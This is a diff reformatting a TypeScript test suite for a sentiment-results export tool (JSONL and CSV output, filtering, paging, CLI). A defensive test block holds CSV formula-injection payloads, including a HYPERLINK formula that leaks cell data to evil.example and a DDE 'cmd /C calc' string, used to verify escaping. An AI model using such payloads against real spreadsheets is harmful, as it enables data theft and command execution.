@@ -32,25 +32,53 @@ function dataset(): SentimentResult[] {
         label,
         score: Math.round((0.5 + random() / 2) * 1e6) / 1e6,
         processedAt: new Date(BASE + Math.floor(i / 10) * 1000).toISOString(),
-        ...(i % 50 === 0 ? { explanation: { method: 'linear-exact' as const, toward: [{ text: 'great, "really"', weight: 0.5 }], against: [] } } : {}),
+        ...(i % 50 === 0
+          ? {
+              explanation: {
+                method: 'linear-exact' as const,
+                toward: [{ text: 'great, "really"', weight: 0.5 }],
+                against: [],
+              },
+            }
+          : {}),
         // The shop's fields on some; metadata JSON holds commas, quotes and a formula (not at the cell start).
-        ...(i % 7 === 0 ? { rating: (i % 11) / 2, locale: 'de-CH', submittedAt: new Date(BASE - i * 86_400_000).toISOString() } : {}),
-        ...(i % 21 === 0 ? { metadata: { channel: 'app, "web"', sku: '=HYPERLINK("x")', qty: i, gift: i % 2 === 0, note: null } } : {}),
+        ...(i % 7 === 0
+          ? { rating: (i % 11) / 2, locale: 'de-CH', submittedAt: new Date(BASE - i * 86_400_000).toISOString() }
+          : {}),
+        ...(i % 21 === 0
+          ? { metadata: { channel: 'app, "web"', sku: '=HYPERLINK("x")', qty: i, gift: i % 2 === 0, note: null } }
+          : {}),
       }),
     );
   }
   const same = '2024-05-01T12:00:30.000Z';
   results.push(makeResult('two-versions', { productId: 'p-1', processedAt: same }));
-  results.push(makeResult('two-versions', { productId: 'p-1', processedAt: same, model: { name: 'review-sentiment-en', version: 'v2' } }));
+  results.push(
+    makeResult('two-versions', {
+      productId: 'p-1',
+      processedAt: same,
+      model: { name: 'review-sentiment-en', version: 'v2' },
+    }),
+  );
   for (const [i, us] of ['123456', '123457', '123999', '123001'].entries()) {
     results.push(makeResult(`micro-${i}`, { productId: 'p-2', processedAt: `2024-05-01T12:00:40.${us}Z` }));
   }
-  results.push(makeResult('quote "me", please\nnext line', { productId: 'p-3', label: 'neg,ative', processedAt: '2024-05-01T12:00:50.000Z' }));
+  results.push(
+    makeResult('quote "me", please\nnext line', {
+      productId: 'p-3',
+      label: 'neg,ative',
+      processedAt: '2024-05-01T12:00:50.000Z',
+    }),
+  );
   results.push(makeResult('  spaced  ', { productId: 'p-3', processedAt: '2024-05-01T12:00:50.000Z' }));
   return results;
 }
 
-const parseJsonl = (text: string) => text.split('\n').filter(Boolean).map((line) => JSON.parse(line) as StoredResult);
+const parseJsonl = (text: string) =>
+  text
+    .split('\n')
+    .filter(Boolean)
+    .map((line) => JSON.parse(line) as StoredResult);
 
 let dir: string;
 let db: SqlClient;
@@ -67,7 +95,10 @@ afterAll(async () => {
   rmSync(dir, { recursive: true, force: true });
 });
 
-async function exportText(format: 'jsonl' | 'csv', options: ExportFilter & { batchSize?: number; onProgress?: (n: number) => void } = {}) {
+async function exportText(
+  format: 'jsonl' | 'csv',
+  options: ExportFilter & { batchSize?: number; onProgress?: (n: number) => void } = {},
+) {
   const out = memorySink();
   const count = await exportResults({ db, format, out, ...options });
   return { count, text: out.text() };
@@ -81,7 +112,9 @@ describe('exportResults', () => {
     expect(count).toBe(data.length);
     expect(exported).toHaveLength(data.length);
     expect(new Set(exported.map(key)).size).toBe(data.length);
-    expect(progress).toEqual(Array.from({ length: Math.ceil(data.length / 64) }, (_, i) => Math.min((i + 1) * 64, data.length)));
+    expect(progress).toEqual(
+      Array.from({ length: Math.ceil(data.length / 64) }, (_, i) => Math.min((i + 1) * 64, data.length)),
+    );
 
     // The order the database gives in one query (its collation orders review ids).
     const reference = await db.query<{ review_id: string; model_version: string }>(
@@ -90,7 +123,12 @@ describe('exportResults', () => {
     expect(exported.map((r) => key(r))).toEqual(reference.rows.map((r) => `${r.review_id}\u0000${r.model_version}`));
     const byKey = new Map(data.map((r) => [key(r), r]));
     for (const r of exported) expect(withoutStoredAt(r)).toEqual(expectedStored(byKey.get(key(r))!));
-    expect(exported.filter((r) => r.reviewId.startsWith('micro-')).map((r) => r.reviewId)).toEqual(['micro-3', 'micro-0', 'micro-1', 'micro-2']);
+    expect(exported.filter((r) => r.reviewId.startsWith('micro-')).map((r) => r.reviewId)).toEqual([
+      'micro-3',
+      'micro-0',
+      'micro-1',
+      'micro-2',
+    ]);
   });
 
   it('CSV: a header and one parseable record per result, with the same fields as JSONL', async () => {
@@ -130,7 +168,8 @@ describe('exportResults', () => {
 
   it('filters by product and by window [from, to), and counts what it exports', async () => {
     const window = { from: new Date(BASE + 20_000), to: new Date(BASE + 45_000) };
-    const inWindow = (r: SentimentResult) => Date.parse(r.processedAt) >= window.from.getTime() && Date.parse(r.processedAt) < window.to.getTime();
+    const inWindow = (r: SentimentResult) =>
+      Date.parse(r.processedAt) >= window.from.getTime() && Date.parse(r.processedAt) < window.to.getTime();
     const cases: [ExportFilter, SentimentResult[]][] = [
       [{ productId: 'p-2' }, data.filter((r) => r.productId === 'p-2')],
       [{ window }, data.filter(inWindow)],
@@ -152,7 +191,9 @@ describe('exportResults', () => {
     // p-1 holds the review stored by two model versions at one instant, p-2 the microsecond apart
     // timestamps: with one row per page, every row is a page boundary.
     for (const productId of ['p-1', 'p-2']) {
-      expect((await exportText('jsonl', { productId, batchSize: 1 })).text).toBe((await exportText('jsonl', { productId })).text);
+      expect((await exportText('jsonl', { productId, batchSize: 1 })).text).toBe(
+        (await exportText('jsonl', { productId })).text,
+      );
     }
   });
 });
@@ -160,7 +201,10 @@ describe('exportResults', () => {
 describe('CSV export against formula injection', () => {
   // Cells a spreadsheet would run as formulas. Ids and product ids come from the shop's reviews.
   const hostile = [
-    makeResult('=HYPERLINK("http://evil.example/?leak="&A1,"click me")', { productId: '@SUM(A1)', processedAt: '2024-05-02T00:00:01.000Z' }),
+    makeResult('=HYPERLINK("http://evil.example/?leak="&A1,"click me")', {
+      productId: '@SUM(A1)',
+      processedAt: '2024-05-02T00:00:01.000Z',
+    }),
     makeResult('+1+cmd|" /C calc"!A0', { productId: '-2+3', processedAt: '2024-05-02T00:00:02.000Z' }),
     makeResult('\tTAB=1', { productId: '\rCR=1', processedAt: '2024-05-02T00:00:03.000Z' }),
     makeResult('\uff1dFULLWIDTH()', { productId: 'plain', processedAt: '2024-05-02T00:00:04.000Z' }),
@@ -202,7 +246,16 @@ describe('sentiment-fleet export (runExportCommand on a PGlite data dir)', () =>
     const stdout = memorySink();
     const stderr = memorySink();
     // STACK_FILE: never the stack of an `npm start` running in this checkout.
-    return { stdout, stderr, io: { env: { LOG_LEVEL: 'warn', LOG_FORMAT: 'json', STACK_FILE: path.join(dir, 'no-stack.json'), ...env }, stdout, stderr, now: () => new Date(BASE + 10_500) } };
+    return {
+      stdout,
+      stderr,
+      io: {
+        env: { LOG_LEVEL: 'warn', LOG_FORMAT: 'json', STACK_FILE: path.join(dir, 'no-stack.json'), ...env },
+        stdout,
+        stderr,
+        now: () => new Date(BASE + 10_500),
+      },
+    };
   };
   let dataDir: string;
 
@@ -220,7 +273,9 @@ describe('sentiment-fleet export (runExportCommand on a PGlite data dir)', () =>
     expect(await runExportCommand({ out: file }, run.io)).toBe(EXPORT_EXIT.ok);
     expect(existsSync(`${file}.partial`)).toBe(false);
     expect(parse(readFileSync(file, 'utf8'), { columns: true })).toHaveLength(small.length);
-    expect(run.stderr.text()).toMatch(new RegExp(`^exported ${small.length} results \\(csv\\) to .*results\\.csv in \\d+\\.\\d s\\n$`));
+    expect(run.stderr.text()).toMatch(
+      new RegExp(`^exported ${small.length} results \\(csv\\) to .*results\\.csv in \\d+\\.\\d s\\n$`),
+    );
 
     // now = BASE + 10.5 s, so the last minute holds the results processed before then.
     const recent = small.filter((r) => Date.parse(r.processedAt) < BASE + 10_500);
@@ -229,7 +284,9 @@ describe('sentiment-fleet export (runExportCommand on a PGlite data dir)', () =>
     const filtered = io({ SINK_DATA_DIR: dataDir });
     expect(await runExportCommand({ window: '1m', product: 'p-3' }, filtered.io)).toBe(EXPORT_EXIT.ok);
     expect(parseJsonl(filtered.stdout.text()).map((r) => r.reviewId)).toEqual(recent.map((r) => r.reviewId));
-    expect(filtered.stderr.text()).toMatch(new RegExp(`^exported ${recent.length} results \\(jsonl; product p-3, last 1m\\) to stdout`));
+    expect(filtered.stderr.text()).toMatch(
+      new RegExp(`^exported ${recent.length} results \\(jsonl; product p-3, last 1m\\) to stdout`),
+    );
   });
 
   it('exit 2 on bad usage, exit 1 with a clear message when the database cannot be read', async () => {
